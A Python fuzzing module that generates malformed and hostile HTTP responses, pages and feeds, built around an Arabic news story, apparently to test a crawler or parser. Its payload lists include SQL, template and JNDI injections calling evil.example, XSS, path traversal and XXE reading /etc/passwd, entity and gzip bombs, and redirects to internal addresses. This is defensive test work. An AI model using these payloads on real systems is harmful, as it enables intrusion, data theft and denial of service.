"""Hostile inputs, made and mutated from one seed: the same number gives the same bytes on every machine."""

from __future__ import annotations

import gzip
import json
import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass

TITLE = "تبادل أسرى بين الجيش والفصائل قرب الجسر القديم"
STORY = (
    "جرى صباح يوم الاثنين 5 آذار 2018 تبادل أسرى بين قوات النظام وفصائل المعارضة قرب مدينة الباب بوساطة الهلال الأحمر.",
    "وأفرجت قوات النظام عن 25 معتقلاً بينهم عشر نساء، مقابل 18 أسيراً وجثتين سلّمتها حركة أحرار الشام.",
    "وخرجت من البلدة اثنتا عشرة حافلة تقل نحو 650 مدنياً ومقاتلاً إلى إدلب، فيما نفى مصدر عسكري إتمام الاتفاق.",
)
WORDS = (
    "تبادل", "أسرى", "أسير", "معتقل", "الإفراج", "عن", "مقابل", "جثة", "حافلة", "إجلاء", "خروج", "قال", "مصدر", "نحو", "أكثر", "من", "ألف", "مئة", "عشرون", "اثنين", "و", "في", "إلى", "من",
)  # fmt: skip
INJECTIONS = (
    "'); drop table raw.articles; --",
    "{{ env_var('HOME') }}{% raw %}",
    '=HYPERLINK("http://evil.example","اضغط")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd\x00.html",
    "\u202eلصألا نع فلتخي\u202c",
    "%s%s%s%n{0}{1}",
    "</title></head><h1>",
)
STRANGE = (
    "\u0640" * 60, "\u064b\u064c\u064d" * 40, "\u200b\u200c\u200d\u2060\ufeff", "\u202a\u202b\u202d\u202e\u2066\u2067", "\u0301" * 80,
    "ﷺ" * 30, "ﷲﷴﻼﻻ", "٠١٢٣٤٥٦٧٨٩" * 20, "9" * 400, "١" * 400, "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\ue000\uf8ff", "\U000e0041" * 20, "أ" + "\u0653" * 20, "،؛؟«»" * 40, "(" * 300, "\u2028\u2029\x85\x0b\x0c", "İıſK", "½⅓Ⅻ①",
)  # fmt: skip
DATES = (
    "0000-00-00", "9999-12-31T23:59:60Z", "-1", "1e308", "99999999999999999999", "2018-02-30", "٢٠١٨/٠٢/٣٠", "31/12/2999", "NaN",
    "Mon, 99 Foo 20188 25:61:61 +9999", "2018-03-05T10:00:00+99:99", "5 آذار 0", "\x00", "",
)  # fmt: skip
CHARSETS = (
    "utf-8",
    "windows-1256",
    "utf-16",
    "punycode",
    "unicode_escape",
    "utf-7",
    "x" * 200,
    "..",
    "hex",
    "cp037",
    "utf-32",
    "big5",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """An input.

    Attributes:
        kind: What was done to it.
        answer: What the server sends, from the status line on.
        is_listing: True for a feed or sitemap, False for a page.
    """

    kind: str
    answer: bytes
    is_listing: bool = False


def make_input(n: int, *, seed: int, base: str) -> Hostile:
    """Return the n-th input.

    Args:
        n: Its number.
        seed: Of the campaign.
        base: Address of the server that sends it, for links.
    """
    draw = random.Random(f"{seed}-{n}")  # noqa: S311 - no secret
    kind = draw.choices(list(_KINDS), weights=[weight for weight, _ in _KINDS.values()])[0]
    made = _KINDS[kind][1](draw, base)
    return Hostile(kind, made, is_listing=kind.startswith("listing"))


def wrap(body: bytes, *, content_type: str = "text/html", **headers: str) -> bytes:
    """Return a sound answer with a body."""
    lines = {"Content-Type": content_type, "Content-Length": str(len(body)), **headers}
    head = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in lines.items())
    return b"HTTP/1.1 200 OK\r\n" + head.encode("latin-1", "replace") + b"\r\n" + body


def make_page(title: str, paragraphs: list[str], *, head: str = "") -> str:
    """Return a page."""
    body = "".join(f"<p>{each}</p>\n" for each in paragraphs)
    return f"<!doctype html><html><head><title>{title}</title>{head}</head><body><h1>{title}</h1>{body}</body></html>"


def _mutate(draw: random.Random, data: bytes) -> bytes:
    """Return data with some bytes changed, doubled, moved or lost."""
    mutated = bytearray(data)
    for _ in range(draw.choice((1, 3, 10, 60))):
        at = draw.randrange(len(mutated) + 1)
        length = draw.choice((1, 1, 2, 7, 40, 400))
        match draw.randrange(5):
            case 0:
                mutated[at : at + length] = b""
            case 1:
                mutated[at:at] = draw.randbytes(length)
            case 2:
                mutated[at:at] = mutated[at : at + length] * draw.choice((1, 3, 50))
            case 3:
                other = draw.randrange(len(mutated) + 1)
                mutated[at : at + length] = mutated[other : other + length]
            case _:
                mutated[at:at] = draw.choice(
                    (b"<", b">", b"&", b"\x00", b"]]>", b"<!--", b"</", b'"', b"\xff\xfe", b"&#x110000;")
                )
    return bytes(mutated)


def _page_mutated(draw: random.Random, _base: str) -> bytes:
    encoding = draw.choice(("utf-8", "cp1256", "utf-16", "iso8859_6"))
    page = make_page(TITLE, list(STORY)).encode(encoding, "replace")
    return wrap(_mutate(draw, page), content_type=f"text/html; charset={draw.choice((encoding, *CHARSETS))}")


def _page_random(draw: random.Random, _base: str) -> bytes:
    return wrap(draw.randbytes(draw.choice((0, 1, 50, 5_000, 60_000))))


def _page_nested(draw: random.Random, _base: str) -> bytes:
    tag = draw.choice(
        ("div", "span", "b", "table><tr><td", "ul><li", "blockquote", "p", "a href=x", "font", "svg", "template", "q")
    )
    depth = draw.choice((100, 255, 256, 2_000, 20_000))
    inner = "".join(f"<p>{each}</p>" for each in STORY)
    closing = (
        "" if draw.random() < 0.5 else "".join(f"</{part.split()[0]}>" for part in reversed(tag.split("><"))) * depth
    )
    return wrap(f"<html><body><h1>{TITLE}</h1>{f'<{tag}>' * depth}{inner}{closing}</body></html>".encode())


def _page_wide(draw: random.Random, _base: str) -> bytes:
    count = draw.choice((300, 300, 2_000, 2_000, 20_000))
    piece = draw.choice(
        (
            "<p>خبر</p>",
            "<a href=/1>أسير</a>",
            "<br>",
            "<li>تبادل أسرى",
            "&nbsp;",
            "<!-- x -->",
            "<td>",
            "<p>.</p>",
            "\n",
            "<script>",
        )
    )
    attributes = " ".join(f"a{i}={i}" for i in range(draw.choice((0, 3_000))))
    return wrap(f"<html><body {attributes}><h1>{TITLE}</h1>{piece * count}<p>{STORY[0]}</p></body></html>".encode())


def _page_strange(draw: random.Random, _base: str) -> bytes:
    paragraphs = []
    for paragraph in STORY:
        words = paragraph.split()
        for _ in range(draw.choice((1, 5, 30))):
            words.insert(draw.randrange(len(words) + 1), draw.choice(STRANGE))
        paragraphs.append(draw.choice((" ", "", "\u00a0", "\u200f ")).join(words))
    return wrap(make_page(f"{TITLE}{draw.choice(STRANGE)}", paragraphs).encode("utf-8", "replace"))


def _page_injected(draw: random.Random, _base: str) -> bytes:
    title = f"{draw.choice(INJECTIONS)} {TITLE}"
    head = f'<meta property="og:site_name" content="{draw.choice((*INJECTIONS, "Hudna sample", "عينة هدنة"))}">'
    return wrap(make_page(title, [*STORY, draw.choice(INJECTIONS)], head=head).encode())


def _page_numbers(draw: random.Random, _base: str) -> bytes:
    numbers = (
        "9" * draw.choice((10, 19, 40, 5_000)),
        "ألف " * draw.choice((3, 10, 200)),
        "١٢٣٬٤٥٦٬٧٨٩",
        "-5",
        "0",
        "1.5",
        "10^9",
        "٪٥٠",
        "مليار مليون",
    )
    text = [
        f"أفرجت الفصائل عن {draw.choice(numbers)} أسيراً مقابل {draw.choice(numbers)} من قوات النظام في {draw.choice(DATES)}."
        for _ in range(12)
    ]
    return wrap(make_page(TITLE, text).encode())


def _page_repeated(draw: random.Random, _base: str) -> bytes:
    some = [draw.choice(WORDS) for _ in range(draw.choice((1, 2, 5, 20)))]
    text = " ".join(some * (draw.choice((200, 200, 1_000, 1_000, 6_000)) // len(some)))
    cut = draw.choice((len(text), 80, 400))
    return wrap(make_page(TITLE, [text[i : i + cut] for i in range(0, len(text), cut)]).encode())


def _page_heads(draw: random.Random, base: str) -> bytes:
    depth = draw.choice((1, 50, 3_000))
    linked = draw.choice((
        "[" * depth + "]" * depth,
        '{"@graph":' * depth + "1" + "}" * depth,
        json.dumps({"@type": ["NewsArticle"] * depth, "datePublished": draw.choice(DATES), "publisher": {"name": {"x": []}}}),
        json.dumps({"@type": "NewsArticle", "headline": draw.choice(INJECTIONS) * depth, "datePublished": 10**400}),
        '{"@type": "NewsArticle", "datePublished": NaN, "headline": null',
    ))  # fmt: skip
    head = f'<script type="application/ld+json">{linked}</script><meta name=date content="{draw.choice(DATES)}">'
    head += f'<link rel=canonical href="{draw.choice(("http://[", base, "javascript:1", "http://" + "a" * 9_000, "//x"))}"><meta charset="{draw.choice(CHARSETS)}">'
    return wrap(
        make_page(TITLE, list(STORY), head=head).encode(), content_type=f"text/html;charset={draw.choice(CHARSETS)}"
    )


def _answer_mutated(draw: random.Random, _base: str) -> bytes:
    return _mutate(draw, wrap(make_page(TITLE, list(STORY)).encode()))


def _answer_random(draw: random.Random, _base: str) -> bytes:
    return draw.randbytes(draw.choice((0, 10, 4_000)))


def _answer_of_another_length(draw: random.Random, _base: str) -> bytes:
    length = draw.choice(("-1", "1e9", "0", "99999999999999999999", "12, 13", "x"))
    return wrap(make_page(TITLE, list(STORY)).encode(), Content_Length=length)


def _answer_packed(draw: random.Random, _base: str) -> bytes:
    page = make_page(TITLE, list(STORY)).encode()
    body, coding = draw.choice((
        (gzip.compress(b"\0" * 30_000_000), draw.choice(("gzip", "deflate", "gzip,gzip", "br", "zstd"))),
        (_mutate(draw, gzip.compress(page)), "gzip"),
        (_mutate(draw, zlib.compress(page)), "deflate"),
        (gzip.compress(gzip.compress(page)), "gzip, gzip"),
    ))  # fmt: skip
    return wrap(body, Content_Encoding=coding)


def _answer_elsewhere(draw: random.Random, base: str) -> bytes:
    status = draw.choice((301, 302, 303, 307, 308, 300, 399))
    target = draw.choice((
        base, "http://10.0.0.1/", "http://[::1]/", "file:///etc/passwd", "//", "\x00", f"http://{'9' * 300}", "http://127.1:1/",
    ))  # fmt: skip
    return f"HTTP/1.1 {status} x\r\nLocation: {target}\r\nContent-Length: 0\r\n\r\n".encode()


def _answer_status(draw: random.Random, _base: str) -> bytes:
    status = draw.choice((100, 101, 204, 206, 226, 304, 400, 401, 404, 410, 418, 451, 500, 599, 600, 999, 0, -1))
    return f"HTTP/1.1 {status} x\r\nContent-Length: 0\r\n\r\n".encode()


def _answer_chunked(draw: random.Random, _base: str) -> bytes:
    chunks = draw.choice((
        b"5\r\nhello\r\n0\r\n\r\n", b"ffffffffffffffff\r\nx", b"-1\r\nx\r\n", b"5;" + b"a" * 9_000 + b"\r\nhello\r\n0\r\n\r\n", b"",
    ))  # fmt: skip
    return b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks


def _listing_mutated(draw: random.Random, base: str) -> bytes:
    items = "".join(
        f"<item><title>{TITLE}</title><link>{base}/none/{i}</link><pubDate>{draw.choice(DATES)}</pubDate></item>"
        for i in range(2)
    )
    return wrap(
        _mutate(draw, f"<?xml version='1.0'?><rss><channel>{items}</channel></rss>".encode()), content_type="text/xml"
    )


def _listing_bomb(draw: random.Random, base: str) -> bytes:
    depth = draw.choice((50, 300, 5_000))
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 20}">' for i in range(1, 9))
    body = draw.choice((
        f"<!DOCTYPE rss [<!ENTITY e0 'x'>{entities}]><rss><item><title>&e8;</title><link>{base}/none</link></item></rss>",
        "<!DOCTYPE rss [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><rss><item><title>&e;</title></item></rss>",
        "<rss>" + "<item>" * depth + "</item>" * depth + "</rss>",
        "<urlset>" + f"<url><loc>{draw.choice(INJECTIONS)}</loc></url>" * depth + "</urlset>",
        "<sitemapindex>" + f"<sitemap><loc>{base}/none.xml</loc></sitemap>" * depth + "</sitemapindex>",
        f"<feed {' '.join(f'a{i}={chr(34)}{i}{chr(34)}' for i in range(depth))}><entry><link href='{base}/none'/></entry></feed>",
        f"<rss><item><title>{draw.choice(STRANGE) * depth}</title><link>{base}/none</link></item></rss>",
        "<rss><item><link>" + draw.choice(("http://[", "x" * 100_000, f"http://{'a.' * 500}invalid", "\u202e", "http://a:99999/")) + "</link></item></rss>",
        "&" * depth * 10 + "<![CDATA[" * depth,
    ))  # fmt: skip
    data = body.encode("utf-8", "replace")
    return wrap(gzip.compress(data) if draw.random() < 0.2 else data, content_type="application/xml")


_KINDS: dict[str, tuple[int, Callable[[random.Random, str], bytes]]] = {
    "page, mutated": (30, _page_mutated),
    "page, random bytes": (4, _page_random),
    "page, nested": (6, _page_nested),
    "page, wide": (5, _page_wide),
    "page, strange characters": (12, _page_strange),
    "page, injections": (8, _page_injected),
    "page, numbers": (5, _page_numbers),
    "page, repeated words": (4, _page_repeated),
    "page, bent heads": (7, _page_heads),
    "answer, mutated": (2, _answer_mutated),
    "answer, random bytes": (1, _answer_random),
    "answer, of another length": (1, _answer_of_another_length),
    "answer, packed": (2, _answer_packed),
    "answer, elsewhere": (2, _answer_elsewhere),
    "answer, status": (1, _answer_status),
    "answer, chunked": (1, _answer_chunked),
    "listing, mutated": (6, _listing_mutated),
    "listing, bombs": (4, _listing_bomb),
}
"""Each kind with its share, in percent."""
